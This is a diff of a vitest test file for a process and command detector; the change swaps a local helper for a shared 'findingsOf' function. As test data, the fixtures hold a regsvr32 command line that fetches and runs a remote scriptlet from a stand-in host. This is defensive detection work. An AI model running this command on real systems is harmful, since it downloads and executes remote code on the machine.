@@ -1,15 +1,10 @@
 import { expect, it } from "vitest";
-import { anEvent, aStart, testCatalog } from "../../test/support/events.ts";
+import { anEvent, aStart } from "../../test/support/events.ts";
+import { findingsOf } from "../../test/support/findings.ts";
 import type { Event } from "../model/event.ts";
-import { createDetector } from "./detector.ts";
 
 const IMAGE = "C:\\Windows\\System32\\regsvr32.exe";
 const ARGUMENTS = "/s /i:http://files.example.net/a.sct scrobj.dll";
-
-function find(events: readonly Event[]) {
-  const detector = createDetector({ catalog: testCatalog(), minLevel: "low" });
-  return [...events.flatMap((event) => detector.push(event)), ...detector.end()];
-}
 
 const start = (second: number, line = `"${IMAGE}" ${ARGUMENTS}`) => aStart(second, "A", IMAGE, line);
 const command = (second: number, text = `regsvr32.exe  ${ARGUMENTS}`) =>
@@ -20,7 +15,7 @@ it("takes a logged command and the start of its process as one, whichever comes 
     [start(1), command(3)],
     [command(1), start(3)],
   ]) {
-    const findings = find(events);
+    const findings = findingsOf(events);
     expect(findings).toHaveLength(1);
     const [one] = events.filter(({ kind }) => kind === "processCreation");
     const [other] = events.filter(({ kind }) => kind === "commandExecution");
@@ -30,8 +25,8 @@ it("takes a logged command and the start of its process as one, whichever comes 
 });
 
 it("keeps commands apart that differ, or that are far from the start", () => {
-  expect(find([start(1), command(3, `regsvr32.exe ${ARGUMENTS} /n`)])).toHaveLength(2);
-  expect(find([start(1), command(60)])).toHaveLength(2);
+  expect(findingsOf([start(1), command(3, `regsvr32.exe ${ARGUMENTS} /n`)])).toHaveLength(2);
+  expect(findingsOf([start(1), command(60)])).toHaveLength(2);
 });
 
 it("knows the shell that cron gives a command to", () => {
@@ -44,8 +39,8 @@ it("knows the shell that cron gives a command to", () => {
     args: ["/bin/sh", "-c", line],
     process: { pid: 9, image: "/usr/bin/dash" },
   });
-  expect(find([job])).toHaveLength(1);
-  const findings = find([job, run]);
+  expect(findingsOf([job])).toHaveLength(1);
+  const findings = findingsOf([job, run]);
   expect(findings).toHaveLength(1);
   expect(findings[0]?.source.index).toBe(run.record.index);
 });
@@ -59,7 +54,7 @@ it("does not hold it against a command that the shell which logged it is a scrip
   });
   const powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
   const started = aStart(1, "A", "C:\\Windows\\System32\\msiexec.exe", install, "P", { parent: { image: powershell } });
-  const reasons = (event: Event) => find([event]).flatMap(({ evidence }) => evidence.map(({ id }) => id));
+  const reasons = (event: Event) => findingsOf([event]).flatMap(({ evidence }) => evidence.map(({ id }) => id));
   expect(reasons(block)).toContain("site-payload");
   expect(reasons(block)).not.toContain("script-parent");
   expect(reasons(started)).toContain("script-parent");
